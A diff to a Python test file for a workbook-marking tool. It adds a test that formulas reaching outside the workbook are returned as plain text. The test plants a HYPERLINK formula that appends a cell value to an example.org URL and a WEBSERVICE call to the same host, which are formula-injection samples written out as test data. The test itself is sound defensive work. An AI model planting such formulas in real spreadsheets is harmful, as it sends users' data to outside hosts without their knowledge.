@@ -6,6 +6,7 @@ import pytest
 from openpyxl import Workbook, load_workbook
 from openpyxl.comments import Comment
 from openpyxl.worksheet.datavalidation import DataValidation
+from openpyxl.worksheet.formula import ArrayFormula
 
 from edu_duty.sealed import run_sealed
 from schools.marking import FILLS, main, request
@@ -50,6 +51,21 @@ def test_the_rest_of_the_workbook_stays():
     assert sheet["C3"].value == "=1+1"
     assert str(sheet.data_validations.dataValidation[0].sqref) == "B2:B9"
     assert sheet["C3"].comment is None
+
+
+def test_a_formula_that_reaches_out_of_the_workbook_comes_back_as_text():
+    book = load_workbook(io.BytesIO(users_workbook()))
+    sheet = book["学段"]
+    sheet["C4"] = '=HYPERLINK("https://example.org/?"&B3,"点")'
+    sheet["C5"] = ArrayFormula("C5:C6", '=WEBSERVICE("https://example.org/")')
+    told = request(TOLD | {"problems": [problem()]}, saved(book))
+
+    copy = load_workbook(io.BytesIO(main(told)))["学段"]
+
+    assert (copy["C4"].data_type, copy["C5"].data_type) == ("s", "s")
+    assert copy["C4"].value.startswith("'=HYPERLINK(")
+    assert copy["C5"].value.startswith("'=WEBSERVICE(")
+    assert copy["C3"].value == "=1+1"
 
 
 def test_an_error_and_a_warning_in_one_cell_show_as_an_error():
